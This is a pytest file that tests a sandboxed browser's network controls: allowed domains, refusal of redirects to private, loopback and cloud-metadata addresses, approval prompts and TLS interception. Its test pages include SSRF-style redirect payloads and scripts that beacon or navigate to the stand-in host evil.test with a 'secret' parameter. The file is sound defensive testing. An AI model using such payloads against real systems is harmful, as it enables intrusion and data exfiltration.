"""What a browser in a cell reaches, judged by the servers of the tests' own internet."""

from __future__ import annotations

import asyncio
from pathlib import Path
from typing import Any

import pytest
from tests.coroutines import pytest_pyfunc_call
from tests.network.test_refused import new_visits
from tests.network.visits import World

from casemate import ApprovalRequest, Denied, Sandbox
from casemate.errors import WebUnavailable
from casemate.web.browser import Browsers
from casemate.web.tab import Rendered

__all__ = ["pytest_pyfunc_call"]
pytestmark = pytest.mark.needs("browser")


async def browse(audit: Path, url: str, timeout: float = 60.0, **options: Any) -> Rendered:
    """The page, by a sandbox that is made for it with these options."""
    async with Sandbox(audit=audit, **options) as sandbox:
        browsers = Browsers(lambda: sandbox._context, "default")
        try:
            return await browsers.browse(
                url, wait_for_selector=None, wait_until="networkidle", timeout=timeout, screenshot=False
            )
        finally:
            await browsers.close()


def publish(world: World, name: str, html: str) -> str:
    """A page of good.test; its path."""
    (world.folder / "site" / name).write_text(html)
    return f"/site/{name}"


async def test_a_page_of_an_allowed_host_is_reached_at_its_address(world: World, audit: Path) -> None:
    before = world.visits()
    page = await browse(audit, "http://good.test/x", allowed_domains=["good.test"])
    assert (page.status, "hello from GET /x" in page.html) == (200, True)
    assert {visit.split()[0] for visit in new_visits(world, before)} == {"93.184.216.34"}


@pytest.mark.parametrize("name", ["private.test", "metadata.test", "loopback.test", "own.test"])
@pytest.mark.parametrize("scheme", ["http", "https"])
async def test_no_redirect_leads_to_an_address_that_is_not_public(
    world: World, audit: Path, name: str, scheme: str
) -> None:
    before = world.visits()
    with pytest.raises((Denied, WebUnavailable)) as raised:
        await browse(
            audit, f"http://good.test/redirect?{scheme}://{name}/latest/meta-data",
            allowed_domains=["good.test", name],
        )  # fmt: skip
    assert name in str(raised.value)
    assert {visit.split()[0] for visit in new_visits(world, before)} == {"93.184.216.34"}


@pytest.mark.parametrize("address", ["10.77.0.1", "169.254.169.254", "127.0.0.1", "[::1]", "2130706433", "198.18.0.1"])
async def test_no_redirect_leads_to_an_address_by_number(world: World, audit: Path, address: str) -> None:
    before = world.visits()
    with pytest.raises(WebUnavailable, match=r"cannot be reached: net::ERR_") as raised:
        await browse(audit, f"http://good.test/redirect?http://{address}/", network="public")
    assert raised.value.reason == "connect"
    assert {visit.split()[0] for visit in new_visits(world, before)} == {"93.184.216.34"}


async def test_what_a_page_asks_of_hosts_that_are_not_allowed_is_asked_of_nobody(world: World, audit: Path) -> None:
    tries = ("http://evil.test/x", "https://evil.test/x", "http://private.test/x", "http://169.254.169.254/x",
             "http://10.77.0.1/x", "ws://evil.test/x", "http://127.0.0.1/x")  # fmt: skip
    html = "<p id=a></p>" + "".join(
        f"<img src={url}><iframe src={url}></iframe><link rel=preconnect href={url}><link rel=stylesheet href={url}>"
        f"<script>fetch('{url}', {{mode: 'no-cors'}}).then(() => a.textContent += ' reached')"
        ".catch(() => a.textContent += ' failed'); "
        f"navigator.sendBeacon('{url}', 'x'); try {{ new WebSocket('{url}'.replace('http', 'ws')) }} catch {{}}"
        "</script>"
        for url in tries
    )
    path = publish(world, "asks", html)
    before = world.visits(), world.queries()
    page = await browse(audit, f"http://good.test{path}", allowed_domains=["good.test"])
    assert " failed" * len(tries) in page.html
    assert {visit.split()[0] for visit in new_visits(world, before[0])} == {"93.184.216.34"}
    assert world.queries() == before[1]


async def test_a_page_that_goes_on_to_a_host_that_is_not_allowed_is_denied_by_its_name(
    world: World, audit: Path
) -> None:
    path = publish(world, "goes", "<script>location = 'http://evil.test/x?secret'</script>")
    before = world.visits()
    with pytest.raises(Denied, match=r"evil\.test: no rule allows it"):
        await browse(audit, f"http://good.test{path}", allowed_domains=["good.test"])
    assert {visit.split()[0] for visit in new_visits(world, before)} == {"93.184.216.34"}


async def test_a_host_that_no_rule_names_is_asked_about_and_its_time_does_not_count_meanwhile(
    world: World, audit: Path
) -> None:
    own_time = 8.0  # of the page, and what the answer takes alone
    asked: list[str] = []

    async def approve(request: ApprovalRequest) -> bool:
        asked.append(request.summary)
        await asyncio.sleep(own_time if len(asked) == 1 else 0)
        return "evil.test" in request.summary

    page = await browse(audit, "http://evil.test/x", own_time, allowed_domains=["good.test"], approve=approve)
    assert "hello from GET /x" in page.html
    assert asked[0] == "connect to evil.test, port 80"


async def test_what_is_asked_for_and_not_approved_is_denied_with_that_reason(world: World, audit: Path) -> None:
    before = world.visits()
    with pytest.raises(Denied, match=r"evil\.test:80: it was asked for and not approved"):
        await browse(audit, "http://evil.test/x", approve=lambda _: False)
    assert new_visits(world, before) == []


async def test_a_certificate_of_nobody_that_is_trusted_is_told(world: World, audit: Path) -> None:
    with pytest.raises(WebUnavailable, match=r"ERR_CERT_AUTHORITY_INVALID.*\n.*certutil") as raised:
        await browse(audit, "https://good.test/x", allowed_domains=["good.test"])
    assert raised.value.reason == "tls"


@pytest.mark.needs("certutil")
async def test_where_tls_is_intercepted_the_browser_trusts_it_and_rules_for_requests_hold(
    world: World, audit: Path
) -> None:
    options: dict[str, Any] = {
        "policy": {"allowed_domains": ["good.test"], "requests": [{"host": "good.test", "path": "/x"}]},
        "intercept": ["good.test"],
        "trust": world.folder / "ca.pem",
    }
    page = await browse(audit, "https://good.test/x", **options)
    assert (page.status, "hello from GET /x" in page.html) == (200, True)
    before = world.visits()
    with pytest.raises(Denied, match=r"good\.test:443"):
        await browse(audit, "https://good.test/other", **options)
    assert [visit for visit in new_visits(world, before) if "/other" in visit] == []


IN_A_CELL = """
import base64

from mcptools import ToolError
from mcptools.web import browse

page = browse.run(url="http://good.test{path}", wait_for_selector="b", screenshot=True).result
print(page["status"], page["title"], page["text"].strip(), page["screenshot"][:8])
(file,) = browse.run(url="http://good.test{path}.saved").result["downloads"]
print(file["name"], base64.b64decode(file["content"]))
try:
    browse.run(url="http://evil.test/")
except ToolError as error:
    print(error.kind, "evil.test" in str(error))
"""


async def test_code_in_a_cell_opens_pages_in_a_browser_of_another_cell(world: World, audit: Path) -> None:
    words = "<title>Later</title><p id=a></p><script>setTimeout(() => a.innerHTML = '<b>come</b>', 100)</script>"
    path = publish(world, "later", words)
    publish(world, "later.saved", "words")
    policy = {"web": {"engines": ["duckduckgo"]}, "allowed_domains": ["good.test"]}
    async with Sandbox(audit=audit, policy=policy) as sandbox:
        execution = await sandbox.run(IN_A_CELL.format(path=path), timeout=60)
    assert execution.stdout.splitlines() == [
        "200 Later **come** iVBORw0K", "later.saved b'words'", "tool True"
    ], execution  # fmt: skip
